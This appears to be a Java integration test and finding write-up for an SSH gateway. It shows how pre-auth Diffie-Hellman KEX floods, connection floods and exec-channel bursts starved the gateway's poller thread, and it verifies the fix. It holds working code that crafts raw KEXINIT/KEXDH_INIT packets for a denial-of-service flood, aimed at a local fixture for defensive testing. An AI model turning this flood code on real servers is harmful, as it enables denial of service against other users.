package dev.gatehouse.gateway;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.math.BigInteger;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyPair;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;
import org.apache.sshd.client.SshClient;
import org.apache.sshd.client.channel.ChannelExec;
import org.apache.sshd.client.session.ClientSession;
import org.apache.sshd.common.keyprovider.FileKeyPairProvider;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/**
 * Attack pass: a hostile client makes the gateway's one SSH polling thread ({@code gh-ssh-poller},
 * {@link WriteCompletions}) stop handling other users' input. The victim is another person's
 * interactive bash ({@code ssh -tt shell@gw}) that types a token every 200 ms and times its echo;
 * the secure outcome asserted is an echo within {@link #BOUND} (5 s) while the attack runs. Idle,
 * the echo takes 1-7 ms ({@link #baselineEchoIsMilliseconds}).
 *
 * <h2>Finding: an unauthenticated client froze every session's input (fixed)</h2>
 *
 * {@link #preAuthEightKilobitKexFloodLeavesOthersAnswered} (19 connections in flight) and {@link
 * #preAuthKexFloodWithThreeConnectionsLeavesOthersAnswered} (only 3): raw TCP clients, no
 * credentials, each sends its identification, a KEXINIT offering only {@code
 * diffie-hellman-group18-sha512} and a KEXDH_INIT with the constant e = 2^1000 in one write (no
 * work on the attacker's side), waits for KEXDH_REPLY and reconnects. Measured: the victim's
 * keystroke was <b>not echoed within 30 s</b> (1 probe of 1 lost, both runs), i.e. its input was
 * frozen for the whole attack (three runs); 84-99 key exchanges were served in that time; 1-7 ms again once the
 * attack stopped. With 3 attacker threads the stall is the same as with 19, so
 * ssh.maxConnectionsPerAddress (20) does not help, nor would many source addresses be needed.
 *
 * <p>Cause, from the poller's stack sampled mid-attack: {@code Nio2Acceptor$AcceptCompletionHandler
 * .onCompleted} → {@code Nio2Session.startReading} → {@code AsynchronousSocketChannelImpl.read}
 * completes at once (the client's bytes are already there) → {@code Invoker.invokeDirect} → {@code
 * AbstractSession.handleKexMessage} → {@code DHGServer.next} → {@code DHG.calculateK} → {@code
 * BigInteger.modPow} (8192-bit key generation plus agreement: ~90 ms each on an idle core here, far
 * more under load). The expensive part is MINA's default KEX list, which keeps the 8192-bit groups
 * (group18/17/16, group-exchange up to 8192); the freeze comes from {@link WriteCompletions.Pool}:
 * completions the JDK hands over on the poller, and those it invokes directly (reads and accepts
 * that complete at once, up to 16 deep, then {@code Pool.runOnPoller}'s LATER queue), all run on
 * the poller <em>before it polls again</em>. An attacker who always has the next connection waiting
 * in the accept queue with its bytes already sent keeps the poller inside that chain (accept
 * completes at once → read completes at once → KEX → next accept ...) and epoll is never asked
 * about the victim's socket at all: not a queue behind a few slow tasks but starvation for as long
 * as the attack lasts. Before the change the same completions went to MINA's pool (CPUs + 1
 * workers, FIFO queue) while the JDK thread kept polling: the flood then delayed the victim by the
 * few KEX tasks queued ahead of its read (well under the bound with 3 connections in flight, by
 * the same ~90 ms figures) rather than freezing it; the KEX cost on MINA's threads is old, the
 * freeze is new.
 *
 * <p><b>Fix.</b> The server no longer offers Diffie-Hellman groups above 2048 bits ({@code Gateway}:
 * curves and group14-sha256 only), and a completion that holds the poller for more than 20 ms sends
 * the poller's work to MINA's workers for a second ({@link WriteCompletions.Pool}). The hand-off is
 * what matters: with it turned off (the threshold set to hours) even the group18 flood, now refused
 * at negotiation, still froze the victim (connections refused as fast as they came, each accepted,
 * read and closed on the poller, the victim's echo lost after 30 s), and a flood of the offered
 * group14 gave echoes of 1.4-2.7 s with 3 connections in flight and none with 19. With it (at a
 * 5 ms threshold, two helper builds on the machine): the victim's echo at most 5-8 ms in every
 * flood above, 4 ms during the 150 exec requests (637-809 ms before); at the 20 ms threshold kept,
 * run while the whole test suite ran on the same two cores: median 1 ms in every flood, worst
 * 34-245 ms (the idle probes after a flood had worst cases of 56-247 ms in that run too), 500 ms
 * during the exec burst.
 *
 * <h2>Tried and held (PASS)</h2>
 * <ul>
 *   <li>{@link #burstOfExecRequestsLeavesOthersAnswered}: with a valid certificate, 150 exec
 *       channels ({@code sleep 30}) opened at once on one connection; each start (recording file,
 *       index row, forced SESSION_START audit line, fork/exec into the sandbox) runs on the poller.
 *       The 150 opened in ~8 s; victim echo median 1 ms, worst 637-809 ms over two runs (a real cost, under the bound).
 *   <li>{@link #connectionFloodLeavesOthersAnswered}: 8 threads opening and resetting TCP
 *       connections (most refused over maxConnectionsPerAddress, each refusal a forced audit line
 *       with fdatasync on the poller; fdatasync costs ~0.2 ms on this disk): 635-1036 connections in
 *       10 s, victim worst 79-107 ms. On a slow disk (ms per fdatasync) this one deserves a re-run.
 * </ul>
 * Not tried in the time box: post-auth re-keying on many authenticated (unlimited) connections,
 * direct-tcpip into a postgres target whose host blackholes (the connect is on a pump thread, not
 * the poller: {@code ForwardedPostgres.doInit} hands {@code session.run} to the pumps; its
 * recording's open is on the poller), device login against a hanging provider (see
 * IdpStallAttack20IT).
 */
@Timeout(value = 600, unit = TimeUnit.SECONDS)
class PollerStallAttackIT {
  /** The secure outcome: the victim's keystroke is echoed within this while the attack runs. */
  static final Duration BOUND = Duration.ofSeconds(5);

  @TempDir static Path dir;
  static GatewayFixture gw;
  static SshClientKey victimKey;
  static SshClientKey attackerKey;

  @RegisterExtension GatewayLogOnFailure log = new GatewayLogOnFailure();

  @BeforeAll
  static void start() throws Exception {
    gw = GatewayFixture.start(Files.createDirectories(dir.resolve("gw")), "", GatewayFixture.DEFAULT_TARGETS);
    victimKey = gw.sign(GatewayFixture.uniqueIdentity("victim"), List.of("dev"));
    attackerKey = gw.sign(GatewayFixture.uniqueIdentity("mallory"), List.of("dev"));
  }

  @AfterAll
  static void stop() {
    if (gw != null) {
      gw.close();
    }
  }

  // ---- the victim ----------------------------------------------------------------------------

  /** Another person's interactive bash; types a token every 200 ms and times its echo. */
  static final class Victim implements AutoCloseable {
    final InteractiveProcess ssh;
    final List<Long> echoMs = Collections.synchronizedList(new ArrayList<>());
    final AtomicInteger lost = new AtomicInteger();
    private final AtomicBoolean running = new AtomicBoolean();
    private Thread prober;
    private int n;

    Victim() throws Exception {
      ssh = gw.interactive(victimKey, "shell");
      ssh.await("gh$ ", Duration.ofSeconds(30));
      // Warm up: a few round trips on the idle gateway.
      for (int i = 0; i < 5; i++) {
        probe(Duration.ofSeconds(10));
      }
      echoMs.clear();
    }

    /** One keystroke group's round trip in ms, or -1 if it did not come back within {@code wait}. */
    long probe(Duration wait) throws Exception {
      String token = "k" + (n++) + "q";
      int from = ssh.length();
      long t0 = System.nanoTime();
      ssh.send(token);
      try {
        ssh.await(token, from, wait);
      } catch (AssertionError e) {
        lost.incrementAndGet();
        return -1;
      }
      long ms = TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - t0);
      if (n % 8 == 0) {
        ssh.send("\u0015"); // Ctrl-U: keep the line short
      }
      return ms;
    }

    void startProbing() {
      echoMs.clear();
      lost.set(0);
      running.set(true);
      prober = new Thread(() -> {
        while (running.get()) {
          try {
            long ms = probe(Duration.ofSeconds(30));
            echoMs.add(ms < 0 ? 30_000L : ms);
            Thread.sleep(200);
          } catch (Exception e) {
            return;
          }
        }
      }, "victim-prober");
      prober.setDaemon(true);
      prober.start();
    }

    /** Stops probing; returns the worst echo time seen (ms). */
    long stopProbing(String what) throws InterruptedException {
      running.set(false);
      prober.join(40_000);
      List<Long> all;
      synchronized (echoMs) {
        all = new ArrayList<>(echoMs);
      }
      Collections.sort(all);
      long max = all.isEmpty() ? -1 : all.get(all.size() - 1);
      long median = all.isEmpty() ? -1 : all.get(all.size() / 2);
      System.out.printf("[PollerStallAttackIT] %s: victim echo over %d probes: median %d ms, max %d ms, lost %d%n",
          what, all.size(), median, max, lost.get());
      return max;
    }

    @Override
    public void close() {
      ssh.close();
    }
  }

  /** The idle figure, for comparison with each attack. */
  @Test
  void baselineEchoIsMilliseconds() throws Exception {
    try (Victim v = new Victim()) {
      v.startProbing();
      Thread.sleep(3000);
      long max = v.stopProbing("baseline (no attack)");
      assertThat(max).isLessThan(1000);
    }
  }

  // ---- pre-auth: 8192-bit Diffie-Hellman on the poller ---------------------------------------

  /** RFC 3526 group 18's prime is not needed: e = 2^1000 is in range for any 8192-bit group. */
  static final BigInteger E = BigInteger.ONE.shiftLeft(1000);

  static byte[] nameList(String s) {
    byte[] b = s.getBytes(StandardCharsets.US_ASCII);
    ByteArrayOutputStream o = new ByteArrayOutputStream();
    writeInt(o, b.length);
    o.writeBytes(b);
    return o.toByteArray();
  }

  static void writeInt(ByteArrayOutputStream o, int v) {
    o.write(v >>> 24);
    o.write(v >>> 16);
    o.write(v >>> 8);
    o.write(v);
  }

  /** An unencrypted binary packet around {@code payload}. */
  static byte[] packet(byte[] payload) {
    int pad = 8 - ((payload.length + 5) % 8);
    if (pad < 4) {
      pad += 8;
    }
    ByteArrayOutputStream o = new ByteArrayOutputStream();
    writeInt(o, payload.length + pad + 1);
    o.write(pad);
    o.writeBytes(payload);
    o.writeBytes(new byte[pad]);
    return o.toByteArray();
  }

  /** Client identification, KEXINIT offering only {@code kex}, and KEXDH_INIT with a fixed e: no work of ours. */
  static byte[] kexFlight(String kex, String hostKeys, String ciphers, String macs) {
    ByteArrayOutputStream init = new ByteArrayOutputStream();
    init.write(20);
    init.writeBytes(new byte[16]);
    init.writeBytes(nameList(kex));
    init.writeBytes(nameList(hostKeys));
    init.writeBytes(nameList(ciphers));
    init.writeBytes(nameList(ciphers));
    init.writeBytes(nameList(macs));
    init.writeBytes(nameList(macs));
    init.writeBytes(nameList("none"));
    init.writeBytes(nameList("none"));
    init.writeBytes(nameList(""));
    init.writeBytes(nameList(""));
    init.write(0);
    writeInt(init, 0);
    ByteArrayOutputStream dh = new ByteArrayOutputStream();
    dh.write(30);
    byte[] e = E.toByteArray();
    writeInt(dh, e.length);
    dh.writeBytes(e);
    ByteArrayOutputStream all = new ByteArrayOutputStream();
    all.writeBytes("SSH-2.0-Mallory_1.0\r\n".getBytes(StandardCharsets.US_ASCII));
    all.writeBytes(packet(init.toByteArray()));
    all.writeBytes(packet(dh.toByteArray()));
    return all.toByteArray();
  }

  /** Reads the server's identification line, then packets until one of type {@code want} (or EOF). */
  static boolean readUntil(InputStream raw, int want) throws IOException {
    DataInputStream in = new DataInputStream(raw);
    StringBuilder line = new StringBuilder();
    int c;
    while ((c = in.read()) >= 0 && c != '\n') {
      line.append((char) c);
    }
    if (c < 0) {
      return false;
    }
    while (true) {
      int len = in.readInt();
      byte[] rest = new byte[len];
      in.readFully(rest);
      int type = rest[1] & 0xff;
      if (type == want) {
        return true;
      }
    }
  }

  /**
   * Unauthenticated: connections that each offer only diffie-hellman-group18-sha512 (8192 bits)
   * and send a KEXDH_INIT with a constant e right after the identification. Each used to cost the
   * server two 8192-bit modular exponentiations (~90 ms here); the server no longer offers the
   * group, so no key exchange is made at all, and the victim is answered while 19 such connections
   * are in flight.
   */
  @Test
  void preAuthEightKilobitKexFloodLeavesOthersAnswered() throws Exception {
    assertThat(oneKex("diffie-hellman-group18-sha512")).as("the server made an 8192-bit key exchange").isFalse();
    assertVictimAnsweredDuring("pre-auth group18 KEX flood (19 connections in flight)", 19,
        () -> oneKex("diffie-hellman-group18-sha512"), Duration.ofSeconds(15));
  }

  /**
   * The same with the costliest group still offered (group14, 2048 bits, for old clients): every
   * connection gets its key exchange, and one that arrives with its bytes already sent completes its
   * accept and first read at once, so without the poller's hand-off to the workers the poller ran
   * one connection's exchange after another and never polled the victim's socket. 19 and 3 in flight.
   */
  @Test
  void preAuthKexFloodOfTheOfferedGroupLeavesOthersAnswered() throws Exception {
    assertThat(oneKex("diffie-hellman-group14-sha256")).as("the server made a group14 key exchange").isTrue();
    assertVictimAnsweredDuring("pre-auth group14 KEX flood (19 connections in flight)", 19,
        () -> oneKex("diffie-hellman-group14-sha256"), Duration.ofSeconds(15));
  }

  /** Only 3 connections in flight: how little it took. */
  @Test
  void preAuthKexFloodWithThreeConnectionsLeavesOthersAnswered() throws Exception {
    assertVictimAnsweredDuring("pre-auth group14 KEX flood (3 connections in flight)", 3,
        () -> oneKex("diffie-hellman-group14-sha256"), Duration.ofSeconds(10));
  }

  /** One connection's identification, KEXINIT offering only {@code kex} and KEXDH_INIT in one write; whether the server replied. */
  static boolean oneKex(String kex) throws Exception {
    try (Socket s = new Socket("127.0.0.1", gw.port())) {
      s.setSoTimeout(60_000);
      s.setTcpNoDelay(true);
      OutputStream out = s.getOutputStream();
      out.write(kexFlight(kex,
          "ssh-ed25519-cert-v01@openssh.com,ssh-ed25519,rsa-sha2-512,rsa-sha2-256,ecdsa-sha2-nistp256",
          "aes128-ctr,aes256-ctr,aes128-gcm@openssh.com,aes256-gcm@openssh.com,chacha20-poly1305@openssh.com",
          "hmac-sha2-256-etm@openssh.com,hmac-sha2-256,hmac-sha2-512"));
      out.flush();
      try {
        return readUntil(s.getInputStream(), 31); // KEXDH_REPLY: the server did its part
      } catch (java.io.EOFException | java.net.SocketException e) {
        return false; // the server closed the connection: no common key exchange
      }
    }
  }

  /**
   * Unauthenticated, no KEX at all: TCP connections opened and closed as fast as 8 threads can
   * (over ssh.maxConnectionsPerAddress most are refused, each refusal a forced audit line).
   */
  @Test
  void connectionFloodLeavesOthersAnswered() throws Exception {
    assertVictimAnsweredDuring("pre-auth connect/close flood (8 threads)", 8, () -> {
      try (Socket s = new Socket("127.0.0.1", gw.port())) {
        s.setSoLinger(true, 0);
        return true;
      }
    }, Duration.ofSeconds(10));
  }

  // ---- after auth: many session starts at once ----------------------------------------------

  /** The attacker's MINA client session with its certificate (host key not checked: not the point). */
  static ClientSession attackerSession(SshClient client, String user) throws Exception {
    KeyPair plain = new FileKeyPairProvider(attackerKey.key()).loadKeys(null).iterator().next();
    KeyPair withCert = new KeyPair(GatewayFixture.readPublicKey(attackerKey.certificate()), plain.getPrivate());
    ClientSession session = client.connect(user, "127.0.0.1", gw.port()).verify(Duration.ofSeconds(20)).getSession();
    session.addPublicKeyIdentity(withCert);
    session.auth().verify(Duration.ofSeconds(20));
    return session;
  }

  static SshClient attackerClient() {
    SshClient client = SshClient.setUpDefaultClient();
    client.setServerKeyVerifier((s, remote, key) -> true);
    client.start();
    return client;
  }

  /**
   * Authenticated: 150 exec channels opened at once on one connection. Each exec request runs the
   * session's start on the poller: the recording file, the index row, the forced SESSION_START
   * audit line and the child's start (fork/exec into the sandbox).
   */
  @Test
  void burstOfExecRequestsLeavesOthersAnswered() throws Exception {
    try (SshClient client = attackerClient(); ClientSession session = attackerSession(client, "shell");
        Victim v = new Victim()) {
      v.startProbing();
      Thread.sleep(600);
      long t0 = System.nanoTime();
      List<ChannelExec> chans = new ArrayList<>();
      for (int i = 0; i < 150; i++) {
        ChannelExec c = session.createExecChannel("sleep 30");
        c.open();
        chans.add(c);
      }
      for (ChannelExec c : chans) {
        c.open().verify(Duration.ofSeconds(120));
      }
      System.out.printf("[PollerStallAttackIT] 150 exec channels opened in %d ms%n",
          TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - t0));
      Thread.sleep(4000);
      long max = v.stopProbing("burst of 150 exec requests on one connection");
      for (ChannelExec c : chans) {
        c.close(true);
      }
      assertThat(max).as("worst victim echo (ms) during the exec burst").isLessThan(BOUND.toMillis());
    }
  }

  /** What the poller is doing right now (the top of its stack, gateway and MINA frames). */
  static void pollerStack(String what) {
    for (var e : Thread.getAllStackTraces().entrySet()) {
      if (e.getKey().getName().equals("gh-ssh-poller")) {
        StringBuilder b = new StringBuilder();
        int shown = 0;
        for (StackTraceElement f : e.getValue()) {
          if (shown++ < 40) {
            b.append("\n    at ").append(f);
          }
        }
        System.out.printf("[PollerStallAttackIT] %s: gh-ssh-poller (%d frames):%s%n", what, e.getValue().length, b);
      }
    }
  }

  // ---- helpers ---------------------------------------------------------------------------------

  interface Attempt {
    boolean run() throws Exception;
  }

  /** Runs {@code attempt} in a loop on {@code threads} threads for {@code during}, probing the victim. */
  static void assertVictimAnsweredDuring(String what, int threads, Attempt attempt, Duration during) throws Exception {
    try (Victim v = new Victim()) {
      AtomicBoolean go = new AtomicBoolean(true);
      AtomicInteger done = new AtomicInteger();
      AtomicInteger failed = new AtomicInteger();
      ExecutorService pool = Executors.newFixedThreadPool(threads);
      for (int i = 0; i < threads; i++) {
        pool.execute(() -> {
          while (go.get()) {
            try {
              if (attempt.run()) {
                done.incrementAndGet();
              } else {
                failed.incrementAndGet();
              }
            } catch (Exception e) {
              failed.incrementAndGet();
            }
          }
        });
      }
      Thread.sleep(1000);
      v.startProbing();
      Thread.sleep(during.toMillis() / 2);
      pollerStack(what);
      Thread.sleep(during.toMillis() / 2);
      long max = v.stopProbing(what);
      go.set(false);
      pool.shutdown();
      pool.awaitTermination(90, TimeUnit.SECONDS);
      System.out.printf("[PollerStallAttackIT] %s: %d attempts completed, %d failed%n", what, done.get(),
          failed.get());
      // After the attack: the victim comes back.
      v.startProbing();
      Thread.sleep(2000);
      long after = v.stopProbing(what + ", after it stopped");
      assertThat(max).as("worst victim echo (ms) during: " + what).isLessThan(BOUND.toMillis());
    }
  }
}
